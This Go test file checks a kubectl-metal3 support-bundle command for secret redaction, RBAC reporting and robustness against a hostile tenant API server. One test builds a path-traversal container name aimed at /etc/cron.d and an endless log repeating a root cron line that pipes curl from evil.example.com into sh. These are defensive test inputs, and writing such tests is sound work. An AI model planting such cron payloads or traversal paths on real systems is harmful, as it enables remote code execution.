// Copyright The karpenter-provider-metal3 Authors.
// SPDX-License-Identifier: Apache-2.0

package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/cli-runtime/pkg/genericclioptions"
	"k8s.io/cli-runtime/pkg/genericiooptions"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/karpenter-provider-metal3/karpenter-provider-metal3/cmd/kubectl-metal3/internal/view"
	"github.com/karpenter-provider-metal3/karpenter-provider-metal3/pkg/apis/v1alpha1"
	"github.com/karpenter-provider-metal3/karpenter-provider-metal3/test/env"
)

// hidden is in every place that a bundle is made of.
const hidden = "s3cr3t"

// kubelet serves the logs of the pods of a node, and returns its port.
func kubelet(t *testing.T) int32 {
	t.Helper()
	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		previous := r.URL.Query().Get("previous") == "true"
		if !strings.HasPrefix(r.URL.Path, "/containerLogs/karpenter-metal3/manager-0/manager") {
			http.Error(w, "no such container", http.StatusNotFound)
			return
		}
		fmt.Fprintf(w, "{\"msg\":\"server-01 is claimed\",\"previous\":%t,\"tail\":%q}\n", previous, r.URL.Query().Get("tailLines"))
		fmt.Fprintf(w, "E1 \"cannot fetch\" err=\"Get \\\"https://u:%s@images.example.com/a.qcow2?sig=%[1]s\\\": EOF\"\n", hidden)
		fmt.Fprintf(w, "password=%s {\"token\":\"%[1]s\"} Authorization: Bearer %[1]s-%[1]s\n", hidden)
	}))
	t.Cleanup(server.Close)
	_, port, err := net.SplitHostPort(strings.TrimPrefix(server.URL, "https://"))
	if err != nil {
		t.Fatal(err)
	}
	number, err := strconv.ParseInt(port, 10, 32)
	if err != nil {
		t.Fatal(err)
	}
	return int32(number)
}

// fill writes objects with secrets wherever one can be.
func fill(t *testing.T, e *env.Environment, port int32) {
	t.Helper()
	copies := map[string]string{corev1.LastAppliedConfigAnnotation: hidden, "example.com/password": hidden}
	withURL := "cannot fetch https://u:" + hidden + "@images.example.com/a.qcow2?sig=" + hidden + " " + hostile
	properties := map[string]string{v1alpha1.PropertyUserData: "#cloud-config\n# " + hidden,
		v1alpha1.PropertyNetworkData: "{links: [] } # " + hidden,
		v1alpha1.PropertyImageURL:    "https://u:" + hidden + "@images.example.com/a.qcow2?sig=" + hidden}
	our := map[string]string{"app.kubernetes.io/part-of": "karpenter-metal3"}
	here := func(name string) metav1.ObjectMeta {
		return metav1.ObjectMeta{Namespace: "karpenter-metal3", Name: name, Labels: our, Annotations: copies}
	}
	program := corev1.PodSpec{NodeName: "node", Containers: []corev1.Container{{Name: "manager", Image: "registry.example.com/manager:v1",
		Args: []string{"--network-endpoint=https://u:" + hidden + "@vlan.example.com/"}, Env: []corev1.EnvVar{{Name: "PROXY", Value: hidden}}}}}
	deployment := &appsv1.Deployment{ObjectMeta: here("karpenter-metal3-manager")}
	deployment.Spec.Selector = &metav1.LabelSelector{MatchLabels: our}
	deployment.Spec.Template = corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: our, Annotations: copies}, Spec: program}
	pod := &corev1.Pod{ObjectMeta: here("manager-0"), Spec: program}
	host := env.AvailableHost("metal3-system", "server-01", nil)
	host.Annotations = copies
	host.Spec.BMC.Address = "redfish://u:" + hidden + "@192.0.2.1/redfish/v1/Systems/1"
	host.Status.ErrorMessage = withURL
	provider := &v1alpha1.NodeProvider{ObjectMeta: metav1.ObjectMeta{Name: "metal3-provider", Annotations: copies}}
	provider.Spec.Properties = properties
	provider.Spec.Metal3.ClusterRef.Namespace = "metal3-system"
	provider.Spec.Metal3.NodeTypes = []v1alpha1.NodeTypeTemplate{{Name: "h100",
		HardwareProfile: v1alpha1.HardwareProfile{Properties: properties, BareMetalHosts: env.HostsWith(map[string]string{"type": "h100"})}}}
	machine := &v1alpha1.Machine{ObjectMeta: metav1.ObjectMeta{Namespace: "acme", Name: "m", Annotations: copies}}
	machine.Spec.NodeTypeRef, machine.Spec.Properties = &v1alpha1.NameReference{Name: "h100"}, properties
	class := &v1alpha1.MetalNodeClass{ObjectMeta: metav1.ObjectMeta{Name: "default", Annotations: copies}}
	class.Spec.ProviderRef, class.Spec.Properties = &v1alpha1.NameReference{Name: "metal3-provider"}, properties
	node := &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "node", Annotations: copies}}
	event := func(name, reason string, object corev1.ObjectReference) *corev1.Event {
		object.Namespace, object.Name = "metal3-system", name
		return &corev1.Event{ObjectMeta: metav1.ObjectMeta{Namespace: "metal3-system", Name: name, Annotations: copies}, InvolvedObject: object,
			Reason: reason, Message: withURL}
	}
	for _, namespace := range []string{"metal3-system", "karpenter-metal3", "acme"} {
		object := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: namespace}}
		if err := e.Client.Create(t.Context(), object); err != nil {
			t.Fatal(err)
		}
	}
	e.CreateHost(t, host)
	for _, object := range []client.Object{node, deployment, pod, provider, machine, class,
		&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: "metal3-system", Name: "server-01-bmc"},
			StringData: map[string]string{"x": hidden}},
		event("host", "InspectionError", corev1.ObjectReference{APIVersion: "metal3.io/v1alpha1", Kind: "BareMetalHost"}),
		event("other", "Unrelated", corev1.ObjectReference{APIVersion: "v1", Kind: "Pod"}),
	} {
		if err := e.Client.Create(t.Context(), object); err != nil {
			t.Fatalf("creating %T, %v", object, err)
		}
	}
	node.Status.Addresses = []corev1.NodeAddress{{Type: corev1.NodeInternalIP, Address: "127.0.0.1"}}
	node.Status.DaemonEndpoints.KubeletEndpoint.Port = port
	pod.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "manager", RestartCount: 1}}
	machine.Status.Conditions = []metav1.Condition{{Type: v1alpha1.ConditionReady, Status: metav1.ConditionFalse, Reason: "Failed",
		Message: withURL, LastTransitionTime: metav1.NewTime(now)}}
	for _, object := range []client.Object{node, pod, machine} {
		if err := e.Client.Status().Update(t.Context(), object); err != nil {
			t.Fatalf("writing the status of %T, %v", object, err)
		}
	}
}

// bundleOf runs the command, and returns the files of the bundle.
func bundleOf(t *testing.T, arguments ...string) (files map[string]string, printed string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "bundle.tar.gz")
	var out, problems bytes.Buffer
	if code := run(t.Context(), genericiooptions.IOStreams{Out: &out, ErrOut: &problems},
		append([]string{"support-bundle", "-o", path}, arguments...)); code != 0 {
		t.Fatalf("exit code %d: %s", code, problems.String())
	}
	return untar(t, path), out.String() + problems.String()
}

func untar(t *testing.T, path string) map[string]string {
	t.Helper()
	info, err := os.Stat(path)
	if err != nil || info.Mode().Perm() != 0o600 {
		t.Fatalf("%v: %v", info, err)
	}
	file, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	unzipped, err := gzip.NewReader(file)
	if err != nil {
		t.Fatal(err)
	}
	files := map[string]string{}
	for archive := tar.NewReader(unzipped); ; {
		header, err := archive.Next()
		if errors.Is(err, io.EOF) {
			return files
		}
		if err != nil {
			t.Fatal(err)
		}
		content, err := io.ReadAll(archive)
		if err != nil {
			t.Fatal(err)
		}
		files[strings.TrimPrefix(header.Name, "karpenter-metal3/")] = string(content)
	}
}

// TestSupportBundle: a bundle has what is asked for, of clusters that have a secret in every place, and none of the secrets. It takes no
// right beyond those of the docs, and says which are missing.
// TestTrimPodSpec: of a container, what is known to be harmless stays.
func TestTrimPodSpec(t *testing.T) {
	probe := &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{hidden}}}}
	container := corev1.Container{
		Name: "manager", Image: "registry.example.com/manager:v1", Command: []string{"/manager", "sh", "-c", "login " + hidden},
		Args: []string{"preflight", hidden, "--v=4", "--namespace", "acme", "--leader-elect", "--join=" + hidden, "--join", hidden,
			"-j", hidden, "--tenant-kubeconfig=/etc/k", "--network-endpoint=https://vlan.example.com", "--", hidden},
		Env:           []corev1.EnvVar{{Name: "PROXY", Value: hidden}},
		LivenessProbe: probe, ReadinessProbe: probe, StartupProbe: probe,
		Lifecycle: &corev1.Lifecycle{PreStop: &corev1.LifecycleHandler{Exec: probe.Exec}},
		Resources: corev1.ResourceRequirements{Limits: env.Resources("cpu", "1")},
	}
	spec := corev1.PodSpec{InitContainers: []corev1.Container{container}, Containers: []corev1.Container{*container.DeepCopy()},
		EphemeralContainers: []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon(*container.DeepCopy())}}}
	trimPodSpec(&spec)
	want := corev1.Container{
		Name: "manager", Image: "registry.example.com/manager:v1", Command: []string{"/manager", "xxxxx", "-c", "xxxxx"},
		Args: []string{"xxxxx", "xxxxx", "--v=4", "--namespace", "acme", "--leader-elect", "--join=xxxxx", "--join", "xxxxx",
			"-j", "xxxxx", "--tenant-kubeconfig=/etc/k", "--network-endpoint=https://vlan.example.com", "--", "xxxxx"},
		Env:       []corev1.EnvVar{{Name: "PROXY"}},
		Resources: corev1.ResourceRequirements{Limits: env.Resources("cpu", "1")},
	}
	for _, got := range []corev1.Container{spec.InitContainers[0], spec.Containers[0],
		corev1.Container(spec.EphemeralContainers[0].EphemeralContainerCommon)} {
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("(-want +got):\n%s", diff)
		}
	}
}

// TestShownFlags: each flag whose value is shown is one that a program has.
func TestShownFlags(t *testing.T) {
	var source strings.Builder
	for _, pattern := range []string{"../manager/*.go", "../provider/*.go", "../webhook/*.go", "page/*.go", "../../pkg/operator/*.go",
		"../../pkg/fleet/topology/*.go"} {
		files, err := filepath.Glob(pattern)
		if err != nil {
			t.Fatal(err)
		}
		for _, file := range files {
			content, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			source.Write(content)
		}
	}
	for name := range shownFlags {
		name = strings.TrimPrefix(strings.TrimPrefix(name, "tenant-kube"), "management-kube")
		if !strings.Contains(source.String(), name+`"`) && !slices.Contains([]string{"v", "vmodule", "logging-format", "version"}, name) {
			t.Errorf("no program has --%s", name)
		}
	}
}

func TestSupportBundle(t *testing.T) {
	e := env.NewEnvironment(t)
	fill(t, e, kubelet(t))
	for name, rules := range map[string][]rbacv1.PolicyRule{
		"supporter": {
			{APIGroups: []string{"metal3.io"}, Resources: []string{"baremetalhosts"}, Verbs: []string{"list"}},
			{APIGroups: []string{v1alpha1.Group, "karpenter.sh"}, Resources: []string{"*"}, Verbs: []string{"list"}},
			{APIGroups: []string{"apiextensions.k8s.io"}, Resources: []string{"customresourcedefinitions"}, Verbs: []string{"list"}},
			{APIGroups: []string{"apps"}, Resources: []string{"deployments"}, Verbs: []string{"list"}},
			{APIGroups: []string{""}, Resources: []string{"pods", "nodes", "events"}, Verbs: []string{"list"}},
			{APIGroups: []string{""}, Resources: []string{"pods/log"}, Verbs: []string{"get"}},
		},
		"reader": {{APIGroups: []string{"metal3.io"}, Resources: []string{"baremetalhosts"}, Verbs: []string{"list"}}},
	} {
		e.Give(t,
			&rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: name}, Rules: rules},
			&rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: name},
				RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: name},
				Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: "User", Name: name}}},
		)
	}
	kubeconfig := e.Kubeconfig(t, "supporter")
	files, printed := bundleOf(t, "--kubeconfig", kubeconfig, "--tenant-kubeconfig", kubeconfig, "--tail", "77")
	for name, content := range files {
		for line := range strings.Lines(content) {
			if strings.Contains(line, hidden) {
				t.Errorf("%s has the secret: %s", name, line)
			}
			if view.PlainLines(line) != line {
				t.Errorf("%s has what a terminal obeys: %q", name, line)
			}
		}
	}
	if !strings.Contains(printed, fmt.Sprintf("with %d files", len(files))) {
		t.Errorf("it printed %q", printed)
	}
	for name, parts := range map[string][]string{
		"README.txt":               {"Support bundle of kubectl-metal3", "  management/logs/karpenter-metal3_manager-0_manager_previous.log\n", "Everything could be read."},
		"snapshot.json":            {`"kind": "FleetSnapshot"`, "redfish://u:xxxxx@192.0.2.1/redfish/v1/Systems/1", `"tenant": {`},
		"management/preflight.txt": {"CHECK", "hosts in metal3-system"},
		"management/versions.yaml": {"gitVersion", "name: baremetalhosts.metal3.io", "name: machines.karpenter.metal3.io", "served: true"},
		"management/deployments.yaml": {"image: registry.example.com/manager:v1", "--network-endpoint=https://u:xxxxx@vlan.example.com/",
			"name: PROXY"},
		"management/pods.yaml": {"restartCount: 1"},
		"management/events.yaml": {"reason: InspectionError",
			"cannot fetch https://u:xxxxx@images.example.com/a.qcow2?xxxxx"},
		"management/logs/karpenter-metal3_manager-0_manager.log": {`{"msg":"server-01 is claimed","previous":false,"tail":"77"}`,
			"password=xxxxx"},
		"management/logs/karpenter-metal3_manager-0_manager_previous.log": {`"previous":true`},
		"tenant/versions.yaml":                               {"name: nodeclaims.karpenter.sh"},
		"tenant/logs/karpenter-metal3_manager-0_manager.log": {"server-01 is claimed"},
	} {
		for _, part := range parts {
			if !strings.Contains(files[name], part) {
				t.Errorf("%s does not have %q:\n%s", name, part, files[name])
			}
		}
	}
	if strings.Contains(files["management/events.yaml"], "Unrelated") {
		t.Errorf("events of others are in it:\n%s", files["management/events.yaml"])
	}
	loaded, err := view.Load(strings.NewReader(files["snapshot.json"]))
	if err != nil || len(loaded.Management.Machines) != 1 {
		t.Errorf("the snapshot cannot be looked at: %v, %+v", err, loaded)
	}

	t.Run("no rights", func(t *testing.T) {
		files, _ := bundleOf(t, "--kubeconfig", e.Kubeconfig(t, "reader"))
		for _, part := range []string{
			"What could not be read:\n",
			`apiGroups ["karpenter.metal3.io"], resources ["machines"], verbs [list]`,
			"  deployments.apps in the management cluster: deployments.apps is forbidden: User \"reader\" cannot list resource \"deployments\"",
			"  pods in the management cluster, and their logs: pods is forbidden",
			"  events in the management cluster: ",
			"  customresourcedefinitions in the management cluster: ",
		} {
			if !strings.Contains(files["README.txt"], part) {
				t.Errorf("README.txt does not have %q:\n%s", part, files["README.txt"])
			}
		}
		if !strings.Contains(files["snapshot.json"], "server-01") {
			t.Errorf("the host is not in the snapshot")
		}
	})
	t.Run("no logs", func(t *testing.T) {
		// The kubelet does not answer for another pod, and nothing has other labels.
		pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "karpenter-metal3", Name: "webhook-0", Labels: map[string]string{"app": "w"}}}
		pod.Spec = corev1.PodSpec{NodeName: "node", Containers: []corev1.Container{{Name: "webhook", Image: "i"}}}
		if err := e.Client.Create(t.Context(), pod); err != nil {
			t.Fatal(err)
		}
		pod.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "webhook"}}
		if err := e.Client.Status().Update(t.Context(), pod); err != nil {
			t.Fatal(err)
		}
		for selector, want := range map[string]string{
			"app=w": "  management/logs/karpenter-metal3_webhook-0_webhook.log: ",
			"app=x": "  logs of our programs in the management cluster: no pod has the labels app=x\n",
		} {
			files, _ := bundleOf(t, "--kubeconfig", kubeconfig, "--selector", selector)
			if !strings.Contains(files["README.txt"], want) {
				t.Errorf("README.txt does not have %q:\n%s", want, files["README.txt"])
			}
		}
	})
	t.Run("examples", func(t *testing.T) {
		t.Chdir(t.TempDir())
		for line := range strings.Lines((&options{management: genericclioptions.NewConfigFlags(true)}).supportBundleCommand().Example) {
			words := strings.Fields(line)[2:]
			if index := slices.Index(words, "acme.kubeconfig"); index >= 0 {
				words[index] = kubeconfig
			}
			var out, problems bytes.Buffer
			words = append(words, "--kubeconfig", kubeconfig)
			if code := run(t.Context(), genericiooptions.IOStreams{Out: &out, ErrOut: &problems}, words); code != 0 {
				t.Errorf("%s: exit code %d: %s", line, code, problems.String())
			}
		}
		if written, err := filepath.Glob("*.tar.gz"); err != nil || len(written) != 2 {
			t.Errorf("there are %v, %v", written, err)
		}
	})
}

// TestBundleOfALiar: the API server of a tenant is the tenant's. It names a container as a path, a log has no end, and neither have its
// pages of events.
func TestBundleOfALiar(t *testing.T) {
	e := env.NewEnvironment(t)
	transport, err := rest.TransportFor(e.Config)
	if err != nil {
		t.Fatal(err)
	}
	backend, err := url.Parse(e.Config.Host)
	if err != nil || backend.Host == "" {
		backend = &url.URL{Scheme: "https", Host: e.Config.Host}
	}
	proxy := httputil.NewSingleHostReverseProxy(backend)
	proxy.Transport = transport
	const evil = "x/../../../../../../../../etc/cron.d/evil"
	answer := func(w http.ResponseWriter, list any) {
		w.Header().Set("Content-Type", "application/json")
		_ = json.NewEncoder(w).Encode(list) // the reader may have gone
	}
	line := []byte(strings.Repeat("* * * * * root curl https://evil.example.com/x | sh\n", 1000))
	pages := 0
	liar := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case strings.HasSuffix(r.URL.Path, "/log"):
			for r.Context().Err() == nil {
				if _, err := w.Write(line); err != nil {
					return
				}
			}
		case r.URL.Path == "/api/v1/pods" && strings.Contains(r.URL.RawQuery, "part-of"):
			pods := corev1.PodList{TypeMeta: metav1.TypeMeta{Kind: "PodList", APIVersion: "v1"}}
			for name, container := range map[string]string{"p": evil, "..": "x"} { // client-go asks for no log of the second
				pod := corev1.Pod{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: name}}
				pod.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: container}}
				pods.Items = append(pods.Items, pod)
			}
			answer(w, pods)
		case r.URL.Path == "/api/v1/events":
			pages++
			event := corev1.Event{InvolvedObject: corev1.ObjectReference{APIVersion: "karpenter.sh/v1"}, Message: strings.Repeat("x", 1<<20)}
			answer(w, corev1.EventList{TypeMeta: metav1.TypeMeta{Kind: "EventList", APIVersion: "v1"}, ListMeta: metav1.ListMeta{Continue: "more"},
				Items: []corev1.Event{event}})
		default:
			r.Header.Del("Accept-Encoding")
			proxy.ServeHTTP(w, r)
		}
	}))
	defer liar.Close()
	kubeconfig := filepath.Join(t.TempDir(), "liar")
	config := clientcmdapi.NewConfig()
	config.Clusters["c"] = &clientcmdapi.Cluster{Server: liar.URL}
	config.AuthInfos["u"] = &clientcmdapi.AuthInfo{Token: "x"}
	config.Contexts["c"], config.CurrentContext = &clientcmdapi.Context{Cluster: "c", AuthInfo: "u"}, "c"
	if err := clientcmd.WriteToFile(*config, kubeconfig); err != nil {
		t.Fatal(err)
	}
	files, _ := bundleOf(t, "--kubeconfig", e.Kubeconfig(t, ""), "--tenant-kubeconfig", kubeconfig)
	logs := 0
	for name, content := range files {
		if !filepath.IsLocal(name) || path.Clean(name) != name || strings.Count(name, "/") > 2 || strings.Contains(name, "etc/") {
			t.Errorf("member %q", name)
		}
		if strings.Contains(name, "/logs/") {
			logs++
			if len(content) > maxLog {
				t.Errorf("the log %s has %d bytes", name, len(content))
			}
		}
	}
	if logs != 1 || pages > maxEvents>>20+2 {
		t.Errorf("%d logs of 1, and %d pages of events: %v", logs, pages, slices.Sorted(maps.Keys(files)))
	}
	if readme := files["README.txt"]; !strings.Contains(readme, "the other events in the tenant cluster: the first ") {
		t.Errorf("README.txt does not say that events are missing: %s", readme)
	}
}

// TestBoundAnswers: an answer that does not end is an error, and a watch may last.
func TestBoundAnswers(t *testing.T) {
	const most = 1 << 20
	endless := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = w.Write(make([]byte, 2*most)) // the reader may have gone
	}))
	defer endless.Close()
	client := &http.Client{Transport: boundAnswers{http.DefaultTransport, most}}
	for query, want := range map[string]int64{"": most, "?watch=true": 2 * most} {
		response, err := client.Get(endless.URL + query)
		if err != nil {
			t.Fatal(err)
		}
		read, err := io.Copy(io.Discard, response.Body)
		response.Body.Close()
		if read != want || (err != nil) != (query == "") {
			t.Errorf("%q: %d bytes, %v", query, read, err)
		}
	}
}
